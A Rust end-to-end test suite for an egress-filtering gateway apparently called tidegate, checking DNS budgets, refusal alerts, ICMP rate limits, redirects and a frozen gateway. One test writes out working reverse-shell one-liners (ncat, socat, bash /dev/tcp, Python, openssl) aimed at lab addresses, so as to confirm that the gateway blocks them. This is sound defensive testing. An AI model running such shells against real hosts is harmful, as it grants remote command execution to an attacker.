//! Rows of policy-semantics.md, of the list of evasions and of the first issue that no topic owns: how soon every
//! real client hears of a refusal, what an explanation survives, the rates of one job, a gateway that is frozen.

mod clients;

use std::time::Instant;

use serde_json::Value;
use tidegate_e2e::dns::{self, dig};
use tidegate_e2e::hello::{self, Client};
use tidegate_e2e::{PATIENCE, block, command, event, flow_event, gateway_by, run, start, started, wrapper};
use tidegate_lab::{Lab, Script, Signal, plan};

/// Row "TLS/QUIC with SNI": names that the gateway resolves for a flow count in the job's DNS budget.
#[tokio::test]
async fn names_that_the_gateway_resolves_for_flows_count_in_the_dns_budget() {
    const NAMES: u16 = 700;
    let lab = Lab::builder().build().unwrap();
    lab.name("*.wild.test", &plan::site(10)).unwrap();
    let gateway = started(&lab, &block(&["*.wild.test:443", "allowed.test:443"])).await;
    let mut events = gateway.events();
    let stream: Vec<u8> = (0..NAMES)
        .flat_map(|id| dns::framed(&dns::query(id, &format!("n{id}.wild.test"), 1)))
        .collect();
    dns::over_tcp(lab.runner(0), "10.77.1.1:53", &[stream], NAMES.into());
    event(&mut events, &[("kind", "dns"), ("reason", "dns-budget")]).await;
    let seen = lab.dns().asked_below("wild.test").len();
    // Never asked for, so never ticketed: the gateway would have to resolve it, at the job's expense.
    let mut refused = Client::connect(lab.runner(0), "192.0.2.66:443");
    refused.say(&hello::plain("secret.wild.test")).hear_all();
    let fields = [
        ("name", "secret.wild.test"),
        ("verdict", "refuse"),
        ("reason", "dns-budget"),
    ];
    flow_event(&mut events, &refused, &fields).await;
    assert_eq!(
        lab.dns().asked_below("wild.test").len(),
        seen,
        "the name went upstream"
    );
    // An exact name costs nothing.
    let outcome = hello::send(lab.runner(0), "192.0.2.66:443", &hello::plain("allowed.test"));
    assert!(outcome.accepted(), "{outcome:?}");
    assert_eq!(dig(&lab, &["allowed.test"]).await.data(), ["192.0.2.10"]);
}

/// "An explained refusal … then shutdown of the write side and a bounded drain before close, or the explanation is
/// lost to a RST": the alert arrives though the client has sent 200 KiB that nobody asked for.
#[tokio::test]
async fn an_alert_is_heard_by_a_client_that_keeps_sending() {
    let lab = Lab::builder().build().unwrap();
    let gateway = started(&lab, &block(&["allowed.test:443"])).await;
    for to in ["192.0.2.66:443", "[2001:db8:200::66]:443"] {
        let mut client = Client::connect(lab.runner(0), to);
        client.say(&hello::plain("evil.test"));
        for _ in 0..50 {
            client.say(&[0x17; 4096]);
        }
        let outcome = client.hear_answer();
        assert_eq!(outcome.alert(), Some(49), "{to}: {outcome:?}");
        flow_event(
            &mut gateway.events(),
            &client,
            &[("name", "evil.test"), ("reason", "not-allowed")],
        )
        .await;
    }
    assert!(
        lab.origins().connections().is_empty(),
        "a refused flow was dialled"
    );
}

/// Row "ICMP": at most ten echo requests a second of one job leave, however many it sends and from however many
/// addresses.
#[tokio::test]
async fn l04_at_most_ten_echo_requests_of_a_job_leave_in_a_second() {
    let lab = Lab::builder().build().unwrap();
    let count = "table inet echo { counter requests { }; chain in { type filter hook prerouting priority 0; \
                 icmp type echo-request counter name requests; icmpv6 type echo-request counter name requests; }; }";
    lab.net()
        .command("nft")
        .args(["-f", "-"])
        .input(count)
        .run()
        .await
        .unwrap()
        .expect_success();
    let _gateway = started(&lab, &(block(&["allowed.test:443"]) + "icmp: true\n")).await;
    for qtype in ["A", "AAAA"] {
        run(&lab, &["dig", "+short", "allowed.test", qtype])
            .await
            .expect_success();
    }
    #[expect(
        clippy::disallowed_methods,
        reason = "how long the pings took bounds how many may leave"
    )]
    let begun = Instant::now();
    let flood = ["-c", "60", "-i", "0.002", "-w", "1"];
    let (v4, v6) = (["ping", "-4", "192.0.2.10"], ["ping", "-6", "2001:db8:200::10"]);
    let (v4, v6) = ([&v4[..], &flood].concat(), [&v6[..], &flood].concat());
    tokio::join!(run(&lab, &v4), run(&lab, &v6));
    let listing = ["-j", "list", "counter", "inet", "echo", "requests"];
    let listing = lab
        .net()
        .command("nft")
        .args(listing)
        .run()
        .await
        .unwrap()
        .expect_success();
    let listing: Value = serde_json::from_slice(&listing.stdout).unwrap();
    let left = listing["nftables"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|one| one["counter"]["packets"].as_u64());
    // A full bucket of ten, and ten more a second for as long as the two took.
    let most = 10 + u64::try_from(begun.elapsed().as_millis() / 100).unwrap();
    let left = left.expect("a counter");
    assert!(
        (10..=most).contains(&left),
        "{left} of 120 left, at most {most} may"
    );
}

/// Stopped (SIGSTOP), the gateway decides nothing and nothing crosses; continued, it serves.
#[tokio::test]
async fn l17_a_frozen_gateway_is_closed_and_goes_on() {
    let lab = Lab::builder().build().unwrap();
    let gateway = started(&lab, &(block(&["allowed.test:443"]) + "icmp: true\n")).await;
    run(&lab, &["curl", "-sS", "https://allowed.test/"])
        .await
        .expect_success();
    let before = lab.origins().connections().len();
    gateway.process().signal(Signal::SIGSTOP).unwrap();
    for line in [
        &[
            "curl",
            "-sS",
            "-m",
            "1",
            "--resolve",
            "allowed.test:443:192.0.2.10",
            "https://allowed.test/",
        ][..],
        &["curl", "-sS", "-m", "1", "-g", "http://[2001:db8:200::10]/"],
        &["dig", "+tries=1", "+time=1", "@203.0.113.53", "allowed.test"],
        &["ping", "-c", "1", "-W", "1", "192.0.2.10"],
    ] {
        run(&lab, line).await.expect_failure();
    }
    assert_eq!(lab.leaks().unwrap().packets, 0);
    assert_eq!(lab.origins().connections().len(), before);
    gateway.process().signal(Signal::SIGCONT).unwrap();
    run(&lab, &["curl", "-sS", "https://allowed.test/"])
        .await
        .expect_success();
}

/// Reverse shells by nc, socat, bash, python and openssl: towards a name or an address that is not listed none
/// connects to anybody.
#[tokio::test]
async fn n13_reverse_shells_reach_nobody() {
    let lab = Lab::builder().build().unwrap();
    let listeners = ["192.0.2.80:4444", "[2001:db8:200::80]:4444", "192.0.2.80:443"].map(|at| {
        lab.raw(at.parse().unwrap(), Script::silent().banner("id\n"))
            .unwrap()
    });
    lab.name("shell.test", &plan::site(80)).unwrap();
    let gateway = started(&lab, &block(&["allowed.test:443"])).await;
    let mut events = gateway.events();
    let python = "import socket, subprocess; s = socket.create_connection(('192.0.2.80', 443)); \
                  subprocess.call(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno())";
    for (line, port) in [
        (
            &["ncat", "-w", "2", "-e", "/bin/sh", "192.0.2.80", "4444"][..],
            "4444",
        ),
        (&["socat", "TCP6:[2001:db8:200::80]:4444", "EXEC:/bin/sh"], "4444"),
        (
            &["bash", "-c", "exec 3<>/dev/tcp/192.0.2.80/4444; sh <&3 >&3"],
            "4444",
        ),
        (&["python3", "-c", python], "443"),
        (
            &["openssl", "s_client", "-quiet", "-connect", "192.0.2.80:443"],
            "443",
        ),
    ] {
        events.forget();
        command(&lab, line).run().await.unwrap();
        event(&mut events, &[("port", port), ("verdict", "refuse")]).await;
    }
    run(&lab, &["ncat", "-w", "2", "-e", "/bin/sh", "shell.test", "4444"]).await;
    event(
        &mut events,
        &[("kind", "dns"), ("name", "shell.test"), ("verdict", "refuse")],
    )
    .await;
    let reached: Vec<_> = listeners
        .iter()
        .flat_map(tidegate_lab::RawServer::connections)
        .collect();
    assert!(reached.is_empty(), "{reached:?}");
}

/// A redirect off an allowed host is another question and another connection.
#[tokio::test]
async fn a11_each_hop_of_a_redirect_is_judged() {
    let lab = Lab::builder().build().unwrap();
    let gateway = started(&lab, &block(&["allowed.test:443", "cdn-a.test:443"])).await;
    let via = |to: &str| format!("https://allowed.test/redirect?to={to}");
    run(&lab, &["curl", "-sSL", &via("https://cdn-a.test/")])
        .await
        .expect_success();
    for to in ["https://evil.test/", "http://cdn-a.test/", "https://192.0.2.66/"] {
        run(&lab, &["curl", "-fksSL", "-m", "5", &via(to)])
            .await
            .expect_failure();
    }
    let mut events = gateway.events();
    event(
        &mut events,
        &[("kind", "dns"), ("name", "evil.test"), ("verdict", "refuse")],
    )
    .await;
    event(&mut events, &[("address", "192.0.2.66"), ("verdict", "refuse")]).await;
    let reached = lab.origins().requests();
    assert!(
        reached
            .iter()
            .all(|one| one.authority.as_deref() != Some("evil.test")),
        "{reached:?}"
    );
}

/// What packaging's unit file leaves the gateway of root's capabilities is enough for it, and for the `nft` that it
/// runs, to intercept, to mend, and to end cleanly.
#[tokio::test]
async fn the_units_capabilities_are_enough() {
    let unit = include_str!("../../../../packaging/tidegate-gateway.service");
    let left = unit
        .lines()
        .find_map(|line| line.strip_prefix("CapabilityBoundingSet="))
        .unwrap();
    let left: Vec<_> = left
        .split(' ')
        .map(|word| word.trim_start_matches("CAP_").to_lowercase())
        .collect();
    let lab = Lab::builder().build().unwrap();
    let prepare = format!(
        "exec setpriv --no-new-privs --bounding-set=-all,+{}",
        left.join(",+")
    );
    let builder = gateway_by(
        &lab,
        wrapper(&lab, &prepare),
        &(block(&["allowed.test:443"]) + "icmp: true\n"),
    );
    let mut gateway = start(builder).await;
    let shown =
        std::fs::read_to_string(format!("/proc/{}/status", gateway.process().pid().unwrap())).unwrap();
    let bounding = shown
        .lines()
        .find_map(|line| line.strip_prefix("CapBnd:"))
        .unwrap();
    let bounding = u64::from_str_radix(bounding.trim(), 16).unwrap();
    assert!(bounding.count_ones() as usize <= left.len(), "{shown}");
    run(&lab, &["curl", "-sS", "https://allowed.test/"])
        .await
        .expect_success();
    run(&lab, &["ping", "-c", "1", "-W", "2", "192.0.2.10"])
        .await
        .expect_success();
    lab.gw()
        .command("nft")
        .args(["flush", "ruleset"])
        .run()
        .await
        .unwrap()
        .expect_success();
    let mended = |status: &Value| status["interception"]["restored"].as_u64() >= Some(1);
    gateway
        .wait_status("the rules to be restored", mended)
        .await
        .unwrap();
    run(&lab, &["curl", "-sS", "-6", "https://allowed.test/"])
        .await
        .expect_success();
    assert_eq!(
        gateway.stop(PATIENCE).await.unwrap(),
        Some(0),
        "{}",
        gateway.process().stderr()
    );
}
